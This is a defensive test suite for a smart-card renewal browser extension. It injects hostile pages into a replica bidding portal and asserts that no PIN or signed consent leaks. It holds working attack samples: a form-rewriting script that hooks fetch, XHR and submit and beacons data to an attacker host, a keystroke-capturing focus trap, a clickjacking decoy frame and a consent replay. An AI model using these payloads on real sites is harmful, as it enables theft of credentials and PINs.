// Hostile pages against the real extension, host, pcscd, virtual cards and replica portal (SECURITY.md). Each
// attack ends with no PIN captured, nothing sent anywhere but the profile's fixed endpoints, and no change on the
// portal that the bidder did not make.
//  1. Injected HTML (no script): a form named like the renewal form, with a foreign action and the attacker's
//     own portal challenge.
//  1b. Injected script that rewrites every form, wraps fetch/XHR/submit and listens for form data mid-flow.
//  2. A current-card consent captured on the wire, replayed in the attacker's session and paired with its card.
//  3. A foreign page that frames the portal (invisible, over a decoy), the menu alone or the whole frameset.
//  4. A sandboxed frame of the portal's menu (opaque origin).
//  5. Page script that steals focus to capture the PIN.
//  6. Synthetic clicks on the renewal button.
import { describe, it, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { createWorld } from '../lib/world.mjs';
import { findDialog, dialogPresent, onScreen, onPinScreen, clickOk, clickCancel } from '../lib/dialog.mjs';
import { renewToConfirmation } from '../lib/renewal.mjs';
import { PATHS, sameCertificate } from '../lib/portal.mjs';
import { EXTENSION_ORIGIN } from '../lib/paths.mjs';
import {
  startAttackerSite,
  attackerSession,
  attackerSigns,
  watchContentScriptConsole,
  hostLaunches,
} from '../lib/hostile.mjs';

const RENEWAL_ENDPOINTS = [PATHS.renewChallenge, PATHS.renewCurrent, PATHS.renewNew];

describe('attacks', () => {
  let world;
  let attacker;
  let old;
  let fresh;
  before(async () => {
    // The portal lets itself be framed here, so that the framing attacks meet the extension's own defence.
    world = await createWorld({ name: 'attacks', allowFraming: true });
    attacker = await startAttackerSite();
    old = await world.testbed.card('old');
    fresh = await world.testbed.card('new');
  });
  after(async () => {
    await attacker?.close();
    await world?.close();
  });
  beforeEach(async () => {
    world.portal.clearInjection();
    await world.testbed.resetPins();
    await world.testbed.put('old', 0);
    world.nativeDialogs.length = 0;
    world.posts.length = 0;
  });

  /** Nothing on the portal changed: the user's card is still the old one and no renewal waits for review. */
  function assertPortalUnchanged() {
    const state = world.portal.state();
    const user = state.users.find((u) => u.id === 'U000001');
    assert.ok(sameCertificate(user.certificate, old.certificate), 'the registered card is still the old one');
    assert.deepEqual(state.pending ?? [], [], 'no renewal waits for review');
  }

  /** Waits until the applet's own handler ran (its confirm + alert): the click was not taken over. */
  async function appletHandlerRan() {
    const deadline = Date.now() + 15_000;
    while (world.nativeDialogs.length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
    assert.deepEqual(
      world.nativeDialogs.map((d) => d.type),
      ['confirm', 'alert'],
      JSON.stringify(world.nativeDialogs),
    );
  }

  it('1: an injected form with a foreign action and challenge gets nothing; the renewal goes to the portal', async () => {
    const theirs = await attackerSession(world.portal, PATHS);
    const { body } = await theirs.post(PATHS.renewChallenge);
    const theirChallenge = JSON.parse(body).challenge;
    world.portal.inject(`
      <form name="frmRenew" method="post" action="${attacker.origin}/steal" accept-charset="UTF-8">
        <input type="hidden" name="challenge" value="${theirChallenge}">
        <input type="hidden" name="oldCertificate"><input type="hidden" name="oldSignature">
        <input type="hidden" name="newCertificate"><input type="hidden" name="newSignature">
        <input type="button" name="btnIcRenew" id="injectedRenew" value="ICカード更新">
      </form>`);
    const menu = await world.openMenu();
    // The bidder sees the genuine dialog and does the whole renewal, clicking the injected button.
    const confirmation = await renewToConfirmation(world, {
      menu,
      button: '#injectedRenew',
      currentPin: old.pin,
      newCard: 'new',
      newPin: fresh.pin,
    });
    assert.equal(new URL(confirmation.url).pathname, PATHS.renewConfirm, 'the portal confirms in the frame');
    assert.equal(new URL(confirmation.url).origin, world.portal.origin);
    assert.deepEqual(attacker.loot(), [], 'nothing reached the attacker');
    // The attacker's session holds nothing to confirm, and its challenge was never signed: it is still unused.
    assert.equal((await theirs.get(PATHS.renewConfirm)).status, 409);
    const probe = await theirs.post(PATHS.renewCurrent, { challenge: theirChallenge });
    assert.equal(probe.status, 400, `their challenge is still live (fields missing): ${probe.body}`);
    assertPortalUnchanged();
  });

  it('1b: a script rewriting the forms and wrapping fetch, XHR and submit mid-flow captures nothing', async () => {
    world.portal.inject(`
      <script>
        (() => {
          const loot = (what, data) => navigator.sendBeacon('${attacker.origin}/loot/' + what, String(data));
          setInterval(() => {
            for (const form of document.forms) {
              form.action = '${attacker.origin}/steal';
              if (form.challenge) form.challenge.value = 'QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUE=';
            }
          }, 5);
          const fetch0 = window.fetch;
          window.fetch = (...args) => { loot('fetch', JSON.stringify(args)); return fetch0(...args); };
          const send0 = XMLHttpRequest.prototype.send;
          XMLHttpRequest.prototype.send = function (body) { loot('xhr', body); return send0.call(this, body); };
          const submit0 = HTMLFormElement.prototype.submit;
          HTMLFormElement.prototype.submit = function () { loot('submit', new URLSearchParams(new FormData(this))); return submit0.call(this); };
          document.addEventListener('formdata', (e) => loot('formdata', new URLSearchParams(e.formData)), true);
          document.addEventListener('submit', (e) => loot('submit-event', new URLSearchParams(new FormData(e.target))), true);
          window.addEventListener('message', (e) => loot('message', JSON.stringify(e.data)), true);
        })();
      </script>`);
    const menu = await world.openMenu();
    const confirmation = await renewToConfirmation(world, {
      menu,
      currentPin: old.pin,
      newCard: 'new',
      newPin: fresh.pin,
    });
    assert.equal(new URL(confirmation.url).pathname, PATHS.renewConfirm);
    assert.deepEqual(attacker.loot(), [], 'the page captured nothing');
    assertPortalUnchanged();
  });

  it('2: a current-card consent captured on the wire cannot be replayed or paired with another card', async () => {
    // A network observer records the current card's consent as it goes to the portal (it does not block it).
    let captured = null;
    await world.context.route(`**${PATHS.renewCurrent}`, async (route) => {
      captured = route.request().postData();
      await route.continue();
    });
    try {
      const menu = await world.openMenu();
      await renewToConfirmation(world, { menu, currentPin: old.pin, newCard: 'new', newPin: fresh.pin });
    } finally {
      await world.context.unroute(`**${PATHS.renewCurrent}`);
    }
    assert.ok(captured, 'the consent was seen on the wire');
    const consent = Object.fromEntries(new URLSearchParams(captured));
    assert.ok(consent.oldSignature && consent.challenge, captured);

    // The attacker holds another company's card and tries to pair it with the bidder's consent.
    await world.testbed.put('other-company', 0);
    const other = await world.testbed.card('other-company');
    const theirs = await attackerSession(world.portal, PATHS);
    await theirs.post(PATHS.renewChallenge);
    const replay = await theirs.post(PATHS.renewCurrent, consent);
    assert.equal(replay.status, 409, `the consent is refused in another session: ${replay.body}`);
    const paired = await attackerSigns({
      env: world.testbed.env,
      logDir: world.dir,
      reader: world.testbed.readerOfSlot(0),
      pin: other.pin,
      origin: world.portal.origin,
      challenge: consent.challenge,
      purpose: 'renew_new',
      boundCertificate: consent.oldCertificate,
    });
    const pairing = await theirs.post(PATHS.renewNew, {
      challenge: consent.challenge,
      newCertificate: paired.certificate,
      newSignature: paired.signature,
    });
    assert.equal(pairing.status, 409, `no new card can be paired without the session's own consent: ${pairing.body}`);
    assert.equal((await theirs.get(PATHS.renewConfirm)).status, 409);
    assertPortalUnchanged();
  });

  for (const [what, route] of [
    ['the menu', PATHS.menu],
    ['the whole frameset', PATHS.frameset],
  ]) {
    it(`3: a foreign page framing ${what} (invisible, over a decoy) gets no flow`, async (t) => {
      const launches = hostLaunches(world);
      const page = await world.context.newPage();
      t.after(() => page.close().catch(() => {}));
      world.watchPage(page);
      const url = attacker.page(
        `/frame-${route.length}`,
        `<!DOCTYPE html><title>抽選に当選しました</title>
         <button style="position:absolute;left:20px;top:20px;width:300px;height:200px">賞品を受け取る</button>
         <iframe src="${world.url(route)}" style="position:absolute;left:0;top:0;width:1000px;height:700px;opacity:0.01;border:0"></iframe>`,
      );
      await page.goto(url);
      const frame = await waitForFrame(page, PATHS.menu);
      await frame.waitForSelector('#btnIcRenew');
      const consoles = await watchContentScriptConsole(world.context, page);
      t.after(() => consoles.detach());
      await frame.click('#btnIcRenew', { force: true });
      await appletHandlerRan();
      assert.equal(dialogPresent(world.context), false, 'no dialog window');
      assert.equal(hostLaunches(world), launches, 'the host was not started');
      assert.deepEqual(world.posts.filter((p) => RENEWAL_ENDPOINTS.some((e) => p.url.endsWith(e))), []);
      assertPortalUnchanged();
    });
  }

  it('3 (control): the same portal opened by the bidder does get the flow', async () => {
    const menu = await world.openMenu();
    await menu.click('#btnIcRenew');
    const dialog = await findDialog(world.context);
    await onScreen(dialog, 'confirm');
    await clickCancel(dialog);
  });

  it('4: a sandboxed frame of the menu (opaque origin) gets no flow', async (t) => {
    const launches = hostLaunches(world);
    world.portal.inject(
      `<iframe name="sandboxed" sandbox="allow-scripts allow-forms allow-modals" src="${PATHS.menu}" style="width:600px;height:300px"></iframe>`,
    );
    const menu = await world.openMenu({ frameset: false });
    const frame = await waitForFrame(world.page, PATHS.menu, (f) => f !== menu && f.name() === 'sandboxed');
    await frame.waitForSelector('#btnIcRenew');
    assert.equal(await frame.evaluate(() => self.origin), 'null', 'the frame is opaque');
    await frame.click('#btnIcRenew');
    await appletHandlerRan();
    assert.equal(dialogPresent(world.context), false, 'no dialog window');
    assert.equal(hostLaunches(world), launches, 'the host was not started');
    t.diagnostic('the sandboxed frame fell back to the applet handler');
  });

  it('5: page script stealing focus captures no PIN, and cannot reach the dialog', async () => {
    world.portal.inject(`
      <input id="trap" style="position:absolute;left:-999px" autocomplete="off">
      <script>
        window.__keys = [];
        const trap = document.getElementById('trap');
        for (const target of [window, document, top, top.document]) {
          target.addEventListener('keydown', (e) => window.__keys.push(e.key), true);
        }
        setInterval(() => { window.focus(); trap.focus(); }, 20);
      </script>`);
    const menu = await world.openMenu({ frameset: false });
    await menu.click('#btnIcRenew');
    const dialog = await findDialog(world.context);
    await onScreen(dialog, 'confirm');
    await clickOk(dialog, 'confirm');
    await onPinScreen(dialog, 'current');
    await dialog.type('#pin-input', old.pin);
    // What the page holds now: the trap's value, the keys it saw, any frame of ours, and whether it can load the
    // dialog page itself.
    const page = await menu.evaluate(async (extensionOrigin) => {
      let loaded = 'no';
      try {
        await fetch(`${extensionOrigin}/dialog.html`);
        loaded = 'yes';
      } catch {
        loaded = 'no';
      }
      return {
        trap: document.getElementById('trap').value,
        keys: window.__keys,
        frames: Array.from(document.querySelectorAll('iframe')).map((f) => f.src),
        html: document.documentElement.outerHTML,
        dialogLoadable: loaded,
      };
    }, EXTENSION_ORIGIN);
    assert.equal(page.trap, '', 'the trap got no keys');
    assert.deepEqual(page.keys, [], 'the page saw no keystrokes');
    assert.ok(!page.frames.some((src) => src.startsWith(EXTENSION_ORIGIN)), 'no frame of the extension in the page');
    assert.ok(!page.html.includes(old.pin), 'the PIN is nowhere in the page');
    assert.equal(page.dialogLoadable, 'no', 'the page cannot load the dialog page');
    // The PIN reached the dialog and the card: the flow goes on to the swap.
    await dialog.click('#pin-ok');
    await onScreen(dialog, 'swap');
    await clickCancel(dialog);
  });

  it('6: synthetic clicks start nothing; a real click does', async (t) => {
    const launches = hostLaunches(world);
    const menu = await world.openMenu({ frameset: false });
    const consoles = await watchContentScriptConsole(world.context, world.page);
    t.after(() => consoles.detach());
    await menu.evaluate(() => {
      const button = document.getElementById('btnIcRenew');
      button.click();
      button.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }));
    });
    await consoles.waitFor(/ignored a synthetic click/);
    assert.equal(dialogPresent(world.context), false, 'no dialog window');
    assert.equal(hostLaunches(world), launches, 'the host was not started');
    assert.deepEqual(world.nativeDialogs, [], 'and the applet handler did not run either');
    await menu.click('#btnIcRenew');
    const dialog = await findDialog(world.context);
    await onScreen(dialog, 'confirm');
    await clickCancel(dialog);
  });
});

/** The frame of `page` showing `route` (and satisfying `accept`), once it is there. */
async function waitForFrame(page, route, accept = () => true, timeoutMs = 15_000) {
  const deadline = Date.now() + timeoutMs;
  while (Date.now() < deadline) {
    const frame = page.frames().find((f) => {
      try {
        return new URL(f.url()).pathname === route && accept(f);
      } catch {
        return false;
      }
    });
    if (frame) return frame;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`no frame shows ${route}; frames: ${page.frames().map((f) => f.url()).join(', ')}`);
}

